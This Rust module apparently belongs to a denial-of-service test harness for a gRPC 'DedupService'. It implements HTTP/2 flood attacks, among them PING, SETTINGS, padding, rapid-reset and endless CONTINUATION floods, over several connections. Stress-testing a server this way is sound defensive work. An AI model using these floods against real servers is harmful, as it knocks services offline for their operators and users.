//! Floods of frames that carry no message.

use anyhow::Result;

use super::{Attack, Running, Target, nothing};
use crate::raw::{self, Raw, frame, head, stream};

/// The number of connections that flood at once.
const CONNECTIONS: usize = 4;

const fn flood(name: &'static str, run: fn(Target) -> Running<String>) -> Attack {
    Attack {
        name,
        prepare: nothing,
        run,
        engine_bytes: 0,
    }
}

pub const PINGS: Attack = flood("flood of PING", |target| {
    repeat(target, frame(raw::PING, 0, 0, &[0; 8]))
});
pub const SETTINGS: Attack = flood("flood of SETTINGS", |target| {
    repeat(target, frame(raw::SETTINGS, 0, 0, &[]))
});
pub const PRIORITIES: Attack = flood("flood of PRIORITY", |target| {
    repeat(target, frame(raw::PRIORITY, 0, 1, &[0, 0, 0, 3, 7]))
});
pub const WINDOWS: Attack = flood("flood of WINDOW_UPDATE", |target| {
    repeat(target, frame(raw::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]))
});
pub const UNKNOWN: Attack = flood("flood of unknown frames", |target| {
    repeat(target, frame(raw::UNKNOWN, 0, 0, &[]))
});

/// Sends one frame repeatedly, without end.
fn repeat(target: Target, frame: Vec<u8>) -> Running<String> {
    Box::pin(async move {
        let frames = frame.repeat(1000);
        let act = move |target: Target| send(target, Vec::new(), frames.clone());
        target.repeat(CONNECTIONS, act).await
    })
}

/// Sends the beginning once, then the rest repeatedly, without end.
async fn send(target: Target, begin: Vec<u8>, rest: Vec<u8>) -> Result<()> {
    let mut connection = Raw::connect(&target.address, 1 << 16).await?;
    connection.send(&begin).await?;
    while !target.is_over() {
        connection.send(&rest).await?;
        if !connection.skip() {
            break;
        }
    }
    Ok(())
}

pub const EMPTY_DATA: Attack = flood("flood of empty DATA", |target| {
    let call = frame(raw::HEADERS, raw::END_HEADERS, 1, &head(STREAM));
    let data = frame(raw::DATA, 0, 1, &[]).repeat(1000);
    Box::pin(async move {
        let act = move |target| send(target, call.clone(), data.clone());
        target.repeat(CONNECTIONS, act).await
    })
});

pub const PADDING: Attack = flood("flood of padding", |target| {
    let call = frame(raw::HEADERS, raw::END_HEADERS, 1, &head(STREAM));
    let padding = [&[255][..], &[0; 255]].concat();
    let data = frame(raw::DATA, raw::PADDED, 1, &padding).repeat(100);
    Box::pin(async move {
        let act = move |target| send(target, call.clone(), data.clone());
        target.repeat(CONNECTIONS, act).await
    })
});

const STREAM: &str = "DedupService/QueryAndAddStream";

pub const RESETS: Attack = flood("rapid reset", |target| {
    Box::pin(async move { target.repeat(CONNECTIONS, resets).await })
});

/// Begins calls and cancels them at once.
async fn resets(target: Target) -> Result<()> {
    let mut connection = Raw::connect(&target.address, 1 << 16).await?;
    let head = head(STREAM);
    let mut next = 0;
    while !target.is_over() && next < 1 << 29 {
        let mut calls = Vec::new();
        for call in next..next + 500 {
            calls.extend(frame(raw::HEADERS, raw::END_HEADERS, stream(call), &head));
            calls.extend(frame(raw::RST_STREAM, 0, stream(call), &[0, 0, 0, 8]));
        }
        next += 500;
        connection.send(&calls).await?;
        if !connection.skip() {
            break;
        }
    }
    Ok(())
}

pub const CONTINUATIONS: Attack = flood("headers without end", |target| {
    Box::pin(async move {
        let begin = frame(raw::HEADERS, 0, 1, &head(STREAM));
        // The smallest fields, one after the other.
        let more = frame(raw::CONTINUATION, 0, 1, &[0x83; 4000]).repeat(10);
        let act = move |target| send(target, begin.clone(), more.clone());
        target.repeat(CONNECTIONS, act).await
    })
});
